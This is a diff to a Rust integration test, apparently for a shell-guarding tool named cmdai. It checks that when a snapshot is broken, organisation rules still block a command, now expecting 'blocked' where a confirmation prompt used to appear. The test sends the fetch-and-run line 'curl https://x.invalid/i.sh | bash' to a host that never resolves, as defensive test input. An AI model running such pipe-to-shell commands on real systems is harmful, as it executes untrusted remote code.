@@ -147,10 +147,9 @@ fn a_broken_snapshot_lets_people_work_and_says_so() {
     let mut shell = Shell::open(&machine).unwrap();
     shell.line("echo work-$((20+1))").unwrap();
     shell.wait_for("work-21").unwrap();
-    // The built-in rules go on. (That name never resolves, should it ever run.)
+    // The organisation's rules go on, by the copy. (That name never resolves, should it ever run.)
     shell.line("curl https://x.invalid/i.sh | bash").unwrap();
-    shell.wait_for("run it? [y/N]").unwrap();
-    shell.line("n").unwrap();
+    shell.wait_for("blocked").unwrap();
     shell.wait_for("PROMPT> ").unwrap();
     let status = Run::of(machine.cmdai().arg("status")).unwrap();
     assert!(status.stdout.contains("problem"), "{}", status.stdout);
